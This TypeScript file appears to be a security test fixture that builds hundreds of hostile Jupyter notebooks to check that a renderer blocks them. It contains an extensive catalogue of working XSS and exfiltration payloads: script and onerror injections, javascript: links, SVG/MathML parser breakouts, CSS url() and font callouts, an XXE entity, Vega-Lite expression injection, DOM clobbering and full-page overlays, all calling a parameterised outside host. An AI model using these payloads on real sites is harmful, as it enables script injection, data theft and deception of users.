import type { ICell } from "@jupyterlab/nbformat";

/** A notebook of a stranger: what is in it, its cells, and whether its reader trusts it by name. */
export interface Hostile {
  readonly what: string;
  readonly cells: ICell[];
  readonly trusted: boolean;
}

/** Handlers, frames, pictures, styles, links and forms that run, load, send or lead away when they are taken as HTML. */
const html = (to: string, strike: string) => [
  `<script>${strike};fetch("${to}/fetch")</script>`,
  `<script src="${to}/script.js"></script>`,
  `<script type="module">import "${to}/module.js"</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}/rules"]}],"prerender":[{"source":"list","urls":["${to}/prerender"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"${to}/map.js"}}</script><script type="module">import "a"</script>`,
  `<img src="${to}/img.png" onerror="${strike}">`,
  `<img srcset="${to}/set.png 1x, ${to}/set2.png 2x">`,
  `<picture><source srcset="${to}/source.png"><img></picture>`,
  `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${to}/inner.png'/%3E%3C/svg%3E">`,
  `<svg onload="${strike}"><script>${strike}</script><image href="${to}/svg.png"/><use href="${to}/use.svg#a"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${strike}">x</maction><mtext href="${to}/math">y</mtext></math>`,
  `<iframe src="${to}/frame"></iframe><frame src="${to}/frame2">`,
  `<iframe srcdoc="<script>parent.hacked=1;${strike.replaceAll('"', "'")}</script><img src=${to}/srcdoc>"></iframe>`,
  `<object data="${to}/object"></object><embed src="${to}/embed"><applet code="${to}/applet"></applet>`,
  `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>`,
  `<video><track src="${to}/track" default><source src="${to}/media"></video>`,
  `<link rel="stylesheet" href="${to}/sheet.css">`,
  `<link rel="preload" as="image" href="${to}/preload"><link rel="prefetch" href="${to}/prefetch">`,
  `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`,
  `<link rel="modulepreload" href="${to}/modulepreload"><link rel="prerender" href="${to}/prerender2">`,
  `<link rel="icon" href="${to}/icon.ico"><link rel="manifest" href="${to}/manifest.json">`,
  `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="report-uri ${to}/report"><img src="x:">`,
  `<meta http-equiv="set-cookie" content="a=b"><base href="${to}/"><img src="base.png">`,
  `<base target="_top"><a href="${to}/base" id="c" autofocus onfocus="${strike}">x</a>`,
  `<style>@import "${to}/import.css"; body{background:url(${to}/bg.png)}</style>`,
  `<style>@font-face{font-family:f;src:url(${to}/font)} *{font-family:f}</style>x`,
  `<style>body{background-image:image-set("${to}/image-set" 1x);cursor:url(${to}/cursor),auto}</style>`,
  `<style>b{background:u\\72l(${to}/escaped)}</style><b>x</b>`,
  `<p style="background:url('${to}/p.png')">x</p><table background="${to}/table.png"><td background="${to}/td.png">x</table>`,
  `<body background="${to}/body.png" onload="${strike}" onpageshow="${strike}">`,
  `<form action="${to}/form" id="f"><input name="q" value="1" autofocus onfocus="document.forms[0].submit()"></form>`,
  `<input type="image" src="${to}/input.png"><button formaction="javascript:${strike}">x</button>`,
  `<a href="javascript:${strike}" ping="${to}/ping">x</a><area href="javascript:${strike}">`,
  `<details open ontoggle="${strike}"><summary>x</summary></details>`,
  `<marquee onstart="${strike}">x</marquee><select autofocus onfocus="${strike}"><option>x</select>`,
  `<svg><animate onbegin="${strike}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${strike}"/></svg>`,
  `<svg><style>@import url(${to}/svgstyle)</style><foreignObject><iframe src="${to}/fo"></iframe></foreignObject></svg>`,
  `</section></main><div style="position:fixed;inset:0;background:#fff;z-index:99999">all is well</div>`,
  `</textarea></title></style></noscript></xmp></script><img src="${to}/broken" onerror="${strike}">`,
  `<noscript><p title="</noscript><img src=${to}/noscript onerror=${strike}>">`,
  `<!--><img src="${to}/comment" onerror="${strike}">--><!--[if IE]><img src="${to}/ie"><![endif]-->`,
  `<plaintext>`,
  `<title>`,
  `<textarea><style><script>`,
  `<template shadowrootmode="open"><img src="${to}/shadow" onerror="${strike}"></template>`,
  `<dialog open style="position:fixed;inset:0">over all</dialog><div popover id="o">x</div>`,
  `<p style="line-height:0"><span style="vertical-align:200px;background:#fff;font-size:300px">over what is before</span></p>`,
  `<p style="line-height:0"><span style="vertical-align:-400px;background:#fff;font-size:300px">over what follows</span></p>`,
  `<p style="font-size:900px;line-height:0;background:#fff">██████</p><p dir="rtl" style="width:100000px;background:#fff">x</p>`,
  `<p style="line-height:0">${"<sup>".repeat(60)}<b style="font-size:200px;background:#fff">over all</b>${"</sup>".repeat(60)}</p>`,
  `<img src=x\u00a0onerror="${strike}"><p\u000bonclick="${strike}">x</p><b/onclick=${strike}>x</b>`,
];

/** What a script may try to reach by, once it runs. */
const scripts = (to: string) => [
  `fetch("${to}/t-fetch")`,
  `new XMLHttpRequest().open("GET", "${to}/t-xhr", false)`,
  `const x = new XMLHttpRequest(); x.open("GET", "${to}/t-xhr2"); x.send()`,
  `navigator.sendBeacon("${to}/t-beacon", "x")`,
  `new WebSocket("${to.replace("http", "ws")}/t-socket")`,
  `new EventSource("${to}/t-events")`,
  `new Image().src = "${to}/t-image"`,
  `import("${to}/t-import.js")`,
  `new Worker("data:text/javascript,fetch('${to}/t-worker')")`,
  `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/t-blob')"])))`,
  `location = "${to}/t-location"`,
  `top.location = "${to}/t-top"`,
  `parent.document.body.innerHTML = ""; parent.hacked = 1`,
  `window.open("${to}/t-open")`,
  `const a = document.createElement("a"); a.href = "${to}/t-a"; a.target = "_top"; document.body.append(a); a.click()`,
  `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${to}"; document.head.append(l)`,
  `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "${to}"; document.head.append(l)`,
  `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${to}/t-prefetch"; document.head.append(l)`,
  `const f = document.createElement("iframe"); f.src = "${to}/t-frame"; document.body.append(f)`,
  `const f = document.createElement("form"); f.action = "${to}/t-form"; document.body.append(f); f.submit()`,
  `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = '{"prefetch":[{"source":"list","urls":["${to}/t-rules"]}]}'; document.head.append(s)`,
  `const s = document.createElement("script"); s.textContent = 'fetch("${to}/t-made")'; document.head.append(s)`,
  `eval('fetch("${to}/t-eval")')`,
  `setTimeout('fetch("${to}/t-timeout")')`,
  `document.body.style.background = "url(${to}/t-style)"`,
  `new FontFace("f", "url(${to}/t-font)").load()`,
  `CSS.registerProperty; document.body.innerHTML = '<img src="${to}/t-html" onerror="parent.hacked=1">'`,
  `navigator.serviceWorker.register("${to}/t-service.js")`,
  `parent.postMessage({ explore: "x", theme: "dark", height: 1e9 }, "*")`,
  `history.pushState(null, "", "/elsewhere")`,
  `document.documentElement.requestFullscreen()`,
  `alert(1)`,
  `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to.slice(7)}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  `const p = new webkitRTCPeerConnection({ iceServers: [{ urls: "turn:${to.slice(7)}?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  `const t = new WebTransport("${to.replace("http", "https")}/t-transport"); t.ready`,
];

/** Drawings whose text breaks out of them, or that load and cover. */
const drawings = (to: string, strike: string) => [
  `<svg\u00a0onload="${strike}" onload="${strike}"><rect width="9" height="9"/></svg>`,
  `<svg\u000bonload="${strike}"/>`,
  `\ufeff<svg\u2028onload="${strike}"/>`,
  `<svg/onload="${strike}"></svg>`,
  `<svg></svg><title>`,
  `<svg></svg><textarea>`,
  `<svg></svg></figure></section></main><p style="position:fixed;inset:0">over all</p>`,
  `<svg><style>svg{background:image-set("${to}/s-set" 1x)}</style><rect width="9" height="9"/></svg>`,
  `<svg><style>svg{background:u\\72l(${to}/s-escaped)}</style><rect width="9" height="9"/></svg>`,
  `<svg><style>@import '${to}/s-import';</style><rect width="9" height="9"/></svg>`,
  `<svg><style>*{fill:url(${to}/s-fill#a)}@font-face{font-family:a;src:url(${to}/s-font)}</style><text>x</text></svg>`,
  `<svg><style>@\\69mport '${to}/s-import2';</style><rect style="fill:red;background:src('${to}/s-src')"/></svg>`,
  `<svg><style></style><img src="${to}/s-img" onerror="${strike}"></style></svg>`,
  `<svg><style><![CDATA[</style><img src="${to}/s-cdata" onerror="${strike}">]]></style></svg>`,
  `<svg><title><![CDATA[</title><img src="${to}/s-title" onerror="${strike}">]]></title></svg>`,
  `<svg><desc><style><img src="${to}/s-desc" onerror="${strike}"></style></desc></svg>`,
  `<svg><image src="${to}/s-src.png" href="${to}/s-href.png" xlink:href="${to}/s-xlink.png"/></svg>`,
  `<svg><image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${strike}'/%3E"/></svg>`,
  `<svg><use href="${to}/s-use#a"/><use xlink:href="data:image/svg+xml,x#a"/></svg>`,
  `<svg><feImage href="${to}/s-fe"/><filter id="f"><feImage xlink:href="${to}/s-fe2"/></filter><rect filter="url(${to}/s-filter#f)"/></svg>`,
  `<svg><a href="javascript:${strike}"><animate attributeName="href" values="javascript:${strike}"/><text>x</text></a></svg>`,
  `<svg><a xlink:href=" &#1;javascript:${strike}" target="_top"><text y="9">x</text></a></svg>`,
  `<svg><set attributeName="onload" to="${strike}"/><handler type="text/javascript">${strike}</handler></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${strike}"><iframe src="${to}/s-fo"/></body></foreignObject></svg>`,
  `<svg style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999"><rect width="100%" height="100%"/></svg>`,
  `<svg width="100000" height="100000" x="-5000" overflow="visible" style="overflow:visible;transform:translate(-50vw,-50vh) scale(99)"><rect x="-9999" y="-9999" width="99999" height="99999"/></svg>`,
  `<svg transform="translate(-500,-900) scale(50)" overflow="visible" viewBox="0 0 1 1"><rect x="-99" y="-99" width="999" height="999" style="margin:-99px"/></svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${to}/s-entity"><!ENTITY y "<script>${strike}</script>">]><svg><text>&x;&y;</text></svg>`,
  `<?xml-stylesheet href="${to}/s-pi.css"?><svg><rect width="9" height="9"/></svg>`,
  `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${strike}</h:script><h:img src="${to}/s-ns" onerror="${strike}"/></svg>`,
  `<svg xml:base="${to}/"><image href="s-base.png"/><use href="s-base.svg#a"/></svg>`,
  `<svg><rect fill="url(&quot;${to}/s-paint#a&quot;)" stroke="url(#a) url(${to}/s-paint2)" mask="url(${to}/s-mask#m)" cursor="url(${to}/s-cursor)"/></svg>`,
  `<svg><rect style="fill:var(--x,url(${to}/s-var));--x:url(${to}/s-own);mask-image:image(url(${to}/s-image))"/></svg>`,
  `<svg><rect style="fill:red\n;marker:url(\t'${to}/s-tab')"/><rect style="clip-path:url(#a\\29 url(${to}/s-par)"/></svg>`,
  `<svg><discard onbegin="${strike}"/><animateMotion path="M0 0"/><audio src="${to}/s-audio"/><video src="${to}/s-video"/></svg>`,
  `<svg><text>${"<g>".repeat(300)}</text></svg>`,
  `<svg>${"<use href='#a'/>".repeat(9)}<g id="a"><use href="#a"/></g></svg>`,
  `<math><annotation-xml encoding="text/html"><img src="${to}/s-math" onerror="${strike}"></annotation-xml></math>`,
];

/** Markdown beside all of the above, which is tried as Markdown, too. */
const markdown = (to: string, strike: string) => [
  `![x](${to}/m.png) ![y][z]\n\n[z]: ${to}/m2.png`,
  `[x](javascript:${strike}) [y](&#106;avascript:${strike}) [z](vbscript:x) [w](data:text/html,<script>${strike}</script>)`,
  `<javascript:${strike}> <${to}/auto>`,
  `[x](attachment:a.png) ![x](attachment:../../etc/passwd) ![x](file:///etc/passwd)`,
  `$\\href{javascript:${strike}}{x}$ $\\includegraphics{${to}/tex.png}$ $\\html@mathml{<img src=${to}/tex>}{}$`,
  `$$\\htmlData{onclick=${strike}}{x} \\url{${to}/texurl} \\class{skip}{x} \\style{position:fixed;inset:0}{x}$$`,
  `$\\def\\a{\\a\\a}\\a$ and $$\\newcommand{\\x}{<script>${strike}</script>}\\x$$`,
  `\`\`\`"><script>${strike}</script>\ncode\n\`\`\`\n\n\`\`\`html\n<img src=${to}/code onerror=${strike}>\n\`\`\``,
  `# <script>${strike}</script> <img src=${to}/heading onerror="${strike}">\n\n## "><b onclick=${strike}>x`,
  `| <img src=${to}/cell onerror=${strike}> | x |\n|---|---|\n| <script>${strike}</script> | y |`,
  `<div style="position:fixed;inset:0;background:white">over all</div>\n\n<p class="skip" id="content">x</p>`,
  `<a id="cell-1" name="content">x</a> <a href="#cell-1">y</a> <form id="f"><input name="getElementById"></form>`,
  `<img name="body"><img id="figure-runtime" name="querySelector"><form name="documentElement"><p id="createElement">`,
  `x\uE0000\uE001y \uE000999\uE001 $x$`,
];

const cell = (outputs: object[], metadata: object = {}, source = "1"): ICell =>
  ({ cell_type: "code", source, outputs, execution_count: 1, metadata }) as unknown as ICell;
const text = (source: string, attachments?: object): ICell =>
  ({ cell_type: "markdown", source, metadata: {}, ...(attachments ? { attachments } : {}) }) as unknown as ICell;
const shows = (data: object, njepa?: object): ICell =>
  cell([{ output_type: "display_data", data, metadata: njepa ? { njepa } : {} }]);

const point = { mark: "point", encoding: { x: { field: "x", type: "quantitative" } }, data: { values: [{ x: 1 }] } };

/** Specifications of figures that load, run or bind. */
const figures = (to: string, strike: string) => [
  { ...point, data: { url: `${to}/v-data.json` } },
  { ...point, data: { values: [{ x: 1 }] }, mark: { type: "image", url: `${to}/v-mark.png`, width: 9, height: 9 } },
  { ...point, encoding: { ...point.encoding, href: { value: `javascript:${strike}` }, url: { value: `${to}/v-url` } } },
  { ...point, params: [{ name: "p", value: 1, bind: { input: "range", element: "body" } }] },
  { ...point, params: [{ name: "p", value: 1, bind: { element: "body", event: "x" } }] },
  { ...point, params: [{ name: "p", expr: `constructor.constructor('${strike}')()` }] },
  { ...point, transform: [{ calculate: `(()=>{}).constructor('${strike}')()`, as: "y" }] },
  { ...point, transform: [{ lookup: "x", from: { data: { url: `${to}/v-lookup.json` }, key: "x", fields: ["y"] } }] },
  { ...point, title: `</title><script>${strike}</script><img src=${to}/v-title onerror=${strike}>` },
  { ...point, config: { background: `url(${to}/v-background)`, style: { cell: { fill: `url(${to}/v-fill)` } } } },
  { ...point, usermeta: { embedOptions: { loader: { baseURL: to }, sourceHeader: `<script>${strike}</script>` } } },
  { ...point, encoding: { x: { field: "x", type: "quantitative", axis: { labelFont: `x';src:url(${to}/v-font)` } } } },
];

/** Metadata and fields that a page prints. */
const words = (strike: string, to: string) => [
  `"><meta http-equiv="refresh" content="0;url=${to}/w-refresh">`,
  `</script><script>${strike}</script>`,
  `--><img src=${to}/w-img onerror=${strike}><!--`,
  `' onmouseover='${strike}' x='`,
  `&lt;img src=${to}/w-entity onerror=${strike}&gt;`,
  `\u001b]8;;javascript:${strike}\u0007x\u001b]8;;\u0007\u001b[31m<b onclick=${strike}>`,
];

function inWords(word: string): ICell[] {
  const label = { id: word, caption: word };
  const columns = [{ name: word, header: word, unit: word, align: "left" }];
  const effect = { what: word, mean: 1, low: 0, high: 2, paper: 1, corrected: 0.01, detectable: 1 };
  const claims = [{ says: word, verdict: "seen", why: word, effects: [effect] }];
  const headline = [{ row: word, column: word, mean: 1, spread: 0.1, labels: 1 }];
  return [
    cell([{ output_type: "stream", name: "stdout", text: word }], { njepa: { kept: word } }, word),
    cell([{ output_type: "error", ename: word, evalue: word, traceback: [word] }], { execution: { a: word } }),
    shows({ "image/png": "AAAA", "text/plain": word }, label),
    shows({ "image/svg+xml": `<svg><title>${word}</title><text y="9">${word}</text></svg>` }, label),
    shows({ "application/vnd.njepa.table+json": { ...label, columns, rows: [{ [word]: word }] } }),
    shows({
      "application/vnd.njepa.provenance+json": { data: word, device: word, config: { [word]: word }, node: word },
    }),
    shows({
      "application/vnd.njepa.claims+json": { ...label, question: word, health: word, made: word, claims, headline },
    }),
    shows({ [word]: word, "application/json": { [word]: word } }),
  ];
}

/** More than two hundred notebooks, each with one thing that runs, loads, sends, covers or breaks where a page lets it. */
export function hostileNotebooks(to: string): Hostile[] {
  const strike = "top.hacked=1;alert(1)";
  const all: Hostile[] = [];
  const add = (what: string, cells: ICell[], trusted = false) => all.push({ what, cells, trusted });
  html(to, strike).forEach((it, at) => {
    add(`HTML ${at}`, [shows({ "text/html": it })]);
    add(`trusted HTML ${at}`, [shows({ "text/html": it })], true);
    add(`Markdown of HTML ${at}`, [text(it), text(`x ${it} y`), shows({ "text/markdown": it })]);
    add(`SVG around HTML ${at}`, [shows({ "image/svg+xml": `<svg>${it}</svg>` }), shows({ "text/latex": it })]);
  });
  scripts(to).forEach((it, at) => {
    add(`trusted script ${at}`, [shows({ "text/html": `<body><script>${it}</script></body>` })], true);
    add(
      `trusted handler ${at}`,
      [shows({ "text/html": `<img src="x:" onerror='${it.replaceAll("'", "&#39;")}'>` })],
      true,
    );
  });
  drawings(to, strike).forEach((it, at) => {
    add(`drawing ${at}`, [shows({ "image/svg+xml": it }), shows({ "image/svg+xml": it }, { id: "f", caption: "c" })]);
  });
  markdown(to, strike).forEach((it, at) => {
    add(`Markdown ${at}`, [text(it, { [it]: { "image/png": it, "text/html": it } }), shows({ "text/markdown": it })]);
  });
  figures(to, strike).forEach((it, at) => {
    const drawn = { "image/svg+xml": "<svg><rect/></svg>", "application/vnd.vegalite.v5+json": it };
    add(`figure ${at}`, [shows({ "application/vnd.vegalite.v6+json": it }), shows(drawn, { id: "f", caption: "c" })]);
  });
  words(strike, to).forEach((it, at) => {
    for (const [kind, part] of inWords(it).entries()) add(`words ${at} in place ${kind}`, [part]);
  });
  return all;
}
